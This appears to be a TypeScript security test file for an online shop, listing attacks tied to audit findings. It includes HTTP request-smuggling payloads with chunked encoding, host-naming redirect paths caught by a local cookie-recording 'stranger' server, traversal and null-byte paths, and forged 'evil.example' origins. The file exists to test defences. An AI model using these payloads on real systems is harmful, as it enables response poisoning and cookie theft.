import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { ADDED_PATHS, MANAGE_PATHS } from '@rasteh/contracts/paths'
import { chunked, rawRequest, sendRaw } from '@rasteh/test-kit/raw-request'
import { type Attack, allHarms, type Harm, type Target } from './attack.ts'
import { openBrowser } from './browser.ts'
import { openCaller } from './caller.ts'
import { ENTRY_POINTS } from './entry-points.ts'
import { enterAsStaff, newMobile, readCode } from './shop/people.ts'

const STOLEN = 'stolen-by-a-stranger'

/** Somebody else's server on this machine, which writes down who came and with what. */
async function openStranger() {
  const visits: string[] = []
  const server: Server = createServer((request, response) => {
    visits.push(`${request.url} with cookie ${request.headers.cookie ?? 'none'}`)
    response.setHeader('content-type', 'text/html')
    response.end(`<script>document.title = ${JSON.stringify(STOLEN)}</script>`)
  })
  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready))
  const close = () => {
    server.close()
    server.closeAllConnections()
  }
  return { host: `127.0.0.1:${(server.address() as AddressInfo).port}`, visits, close }
}

/** One raw request; silence is an answer too: status 0. */
const raw = (port: number, bytes: string) =>
  sendRaw(port, bytes).then(
    ([answer]) => answer ?? { status: 0, head: '', body: '' },
    () => ({ status: 0, head: '', body: '' }),
  )

async function forgeRequest({ port }: Target): Promise<Harm | null> {
  const stranger = await openStranger()
  const { host } = stranger
  const targets = ['//', '///', '//user@', '/\\', '/./..//', '/%2e%2e//', 'http://'].flatMap((start) =>
    ['api/shop/x', 'shop/payment/return/x', 'Ajax/x.ashx', ''].map((rest) => `${start}${host}/${rest}`),
  )
  const headers = { Cookie: 'rasteh-token=VICTIM', Connection: 'close' }
  const answers = await Promise.all(targets.map((path) => raw(port, rawRequest('GET', path, headers))))
  stranger.close()
  const [visit] = stranger.visits
  if (visit) return `another host was asked: ${visit} (${stranger.visits.length} visits)`
  return answers.some(({ body }) => body.includes(STOLEN)) ? "a stranger's page came from the shop" : null
}

async function clickLink({ port }: Target): Promise<Harm | null> {
  const stranger = await openStranger()
  const browser = await openBrowser()
  const page = await browser.newPage()
  await page.goto(`http://127.0.0.1:${port}//${stranger.host}/api/shop/x`).catch(() => null)
  const title = await page.title()
  await page.close()
  stranger.close()
  return title === STOLEN ? "a clicked link runs a stranger's script on the shop's origin" : null
}

const SMUGGLING = [
  ['GET', '/api/shop/me'],
  ['DELETE', '/api/shop/me'],
  ['OPTIONS', '/api/shop/me'],
  ['DELETE', '/./api/shop/me'],
  ['OPTIONS', '/./api/shop/me'],
  ['DELETE', '/x/../api/shop/me'],
] as const
const SMUGGLE_ROUNDS = 15
const VICTIMS_A_ROUND = 6

async function smuggle({ port, shop }: Target): Promise<Harm | null> {
  const smuggled = rawRequest('GET', '/api/shop/smuggled-by-nobody')
  let wrong = 0
  for (let round = 0; round < SMUGGLE_ROUNDS; round += 1) {
    const attempts = SMUGGLING.map(([method, path]) =>
      raw(port, rawRequest(method, path, { 'Transfer-Encoding': 'chunked' }) + chunked(smuggled)),
    )
    const victims = Array.from({ length: VICTIMS_A_ROUND }, (_, at) => {
      const door = at % 2 === 0 ? port : shop.ports['shop-api']
      return raw(door, rawRequest('GET', '/api/shop/cart/get', { Connection: 'close' }))
    })
    const [seen] = await Promise.all([Promise.all(victims), Promise.all(attempts)])
    wrong += seen.filter(({ status, body }) => status === 0 || body.includes('smuggled')).length
  }
  const all = SMUGGLE_ROUNDS * VICTIMS_A_ROUND
  return wrong > 0 ? `${wrong} of ${all} victims received an attacker's answer` : null
}

async function smuggleAddress({ port, shop }: Target): Promise<Harm | null> {
  const mobile = newMobile()
  const body = JSON.stringify({ Identity: mobile, Purpose: 'sign-in' })
  const smuggled = `${rawRequest('POST', ADDED_PATHS.accountCode, {
    'X-Forwarded-For': '203.0.113.77',
    'x-Rasteh-HeaderKey': 'attack',
    'Content-Type': 'application/json',
    'Content-Length': String(body.length),
  })}${body}`
  for (const [method, path] of SMUGGLING)
    await raw(port, rawRequest(method, path, { 'Transfer-Encoding': 'chunked' }) + chunked(smuggled))
  const code = await readCode(shop, mobile, 2_000)
  return code === ''
    ? null
    : `a smuggled request, with an address of its own choice, had a code sent to ${mobile}`
}

const NO_TARGETS = [
  '//',
  '///',
  '/./',
  '/../',
  '/a/..',
  '/%2e%2e/',
  '/%',
  '/%zz',
  '/%00',
  '/a%00b',
  '/a\\b',
  '*',
  '/%c0%ae',
]

async function askNothing({ port }: Target): Promise<Harm | null> {
  const answers = await Promise.all(
    NO_TARGETS.map(async (path) => ({
      path,
      ...(await raw(port, rawRequest('GET', path, { Connection: 'close' }))),
    })),
  )
  const wrong = answers.filter(({ status }) => status === 0 || status >= 500)
  if (wrong.length === 0) return null
  return wrong.map(({ path, status }) => `GET ${path} → ${status || 'no answer in 10 s'}`).join(', ')
}

const MANAGE_CALLS = [
  ['GET', MANAGE_PATHS.orders],
  ['POST', '/api/shop/manage/order/00000000-0000-4000-8000-000000000000/approve'],
  ['POST', '/api/shop/manage/userfile/link'],
  ['GET', '/api/shop/manage/nothing'],
] as const

async function foreignOrigin(target: Target): Promise<Harm | null> {
  const manager = await enterAsStaff(target, 'manager')
  const harms = await Promise.all(
    [manager, openCaller(target)].flatMap((caller) =>
      MANAGE_CALLS.flatMap(([method, path]) =>
        ['https://evil.example', 'null'].map(async (origin) => {
          const sent = { headers: { origin }, ...(method === 'POST' && { json: {} }) }
          const { status } = await caller.call(method, path, sent)
          return status === 0 || status >= 500 ? `${method} ${path} from ${origin} → ${status}` : null
        }),
      ),
    ),
  )
  return allHarms(harms)
}

const SNIFFED = [
  ['GET', '/'],
  ['GET', '/health/ready'],
  ['GET', '/api/shop/me'],
  ['GET', '/api/shop/cart/get'],
  ['GET', '/api/shop/nothing'],
  ['POST', '/api/shop/cart/create'],
  ['GET', '/api/shop/captcha/comment/spoken'],
  ['GET', '/Ajax/Captcha.ashx'],
  ['GET', '/DesktopModules/Shop/AJAX/GetJSMessages.ashx'],
  ['GET', '/shop/payment/return/sep/x'],
  ['GET', '/cms-api/products'],
  ['GET', '/dashboard/login'],
  ['GET', '/assets/nothing.js'],
  ['GET', '/_next/static/nothing.js'],
  ['GET', '/robots.txt'],
  ['GET', '/sitemap.xml'],
  ['GET', '/media/nothing.webp'],
  ['GET', '/metrics'],
  ['TRACE', '/'],
  ['GET', '//'],
] as const

async function sniff({ port }: Target): Promise<Harm | null> {
  const bare: string[] = []
  for (const [method, path] of SNIFFED) {
    const { head, status } = await raw(port, rawRequest(method, path, { Connection: 'close' }))
    if (!/^x-content-type-options: nosniff/im.test(head)) bare.push(`${method} ${path} (${status})`)
  }
  return bare.length > 0 ? `without nosniff: ${bare.join(', ')}` : null
}

/** What a request's own address and form can do. */
export const requestAttacks: Attack[] = [
  {
    finding: 'C1',
    title: 'a path that names a host leads the shop there',
    entryPoints: ENTRY_POINTS,
    run: forgeRequest,
  },
  {
    finding: 'C1',
    title: "a clicked link runs a stranger's script on the shop's origin",
    entryPoints: ['edge', 'storefront', 'dashboard'],
    notElsewhere: 'shop-api has no pages and is no proxy',
    run: clickLink,
  },
  {
    finding: 'C2',
    title: "a smuggled request steals others' answers",
    entryPoints: ENTRY_POINTS,
    run: smuggle,
  },
  {
    finding: 'C2',
    title: 'a smuggled request chooses its own address',
    entryPoints: ENTRY_POINTS,
    run: smuggleAddress,
  },
  {
    finding: 'Low',
    title: 'an address that is none (//, /%00, …) hangs or breaks',
    entryPoints: ENTRY_POINTS,
    run: askNothing,
  },
  {
    finding: 'Low',
    title: 'a foreign Origin breaks the managers’ calls',
    entryPoints: ENTRY_POINTS,
    run: foreignOrigin,
  },
  { finding: 'Low', title: 'answers without nosniff', entryPoints: ENTRY_POINTS, run: sniff },
]
